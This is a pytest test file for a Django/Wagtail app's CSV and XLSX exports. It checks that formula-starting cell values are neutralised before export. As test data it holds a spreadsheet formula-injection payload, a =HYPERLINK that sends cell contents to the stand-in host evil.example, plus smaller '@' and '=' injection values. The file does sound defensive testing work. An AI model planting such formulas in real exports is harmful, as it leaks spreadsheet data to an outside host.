"""Spreadsheet exports never hand a formula to Excel (campaigns/exports.py): CSV cells that start with
=, +, -, @, tab or CR get a leading apostrophe; XLSX cells are written as text."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from campaigns.admin.exports import spreadsheet_safe
from campaigns.models import Locality, ResidentialGroup

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", [HYPERLINK, "+84912345678", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                                   "＝1+1"])
def test_formula_starters_get_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Tổ dân phố số 5", "", "a=b", " =1", 42, -3, None])
def test_other_values_are_left_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def evil_group(demo):
    return ResidentialGroup.objects.create(
        ward=Locality.objects.get(slug="hai-an"), name=HYPERLINK, head_name="@cmd", head_phone="+84912345678",
    )


def test_csv_export_of_a_viewset_neutralises_formulas(evil_group, login):
    response = login("lanhdao").get(reverse("residentialgroup:index"), {"export": "csv"})
    assert response.status_code == 200
    row = next(row for row in csv_rows(response) if HYPERLINK in "".join(row))
    assert "'" + HYPERLINK in row
    assert "'@cmd" in row and "'+84912345678" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_xlsx_export_writes_formulas_as_text(evil_group, login):
    response = login("lanhdao").get(reverse("residentialgroup:index"), {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value == HYPERLINK]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_wagtails_own_reports_are_neutralised_too(portal_demo, client, django_user_model):
    from cms.models import SloganPage

    slogan = SloganPage.objects.live().first()
    slogan.title = "=1+1"
    slogan.save_revision().publish()
    admin = django_user_model.objects.create_superuser("quantri", "quantri@loa.local", "x")
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    cells = [cell for row in csv_rows(response) for cell in row]
    assert "'=1+1" in cells and "=1+1" not in cells
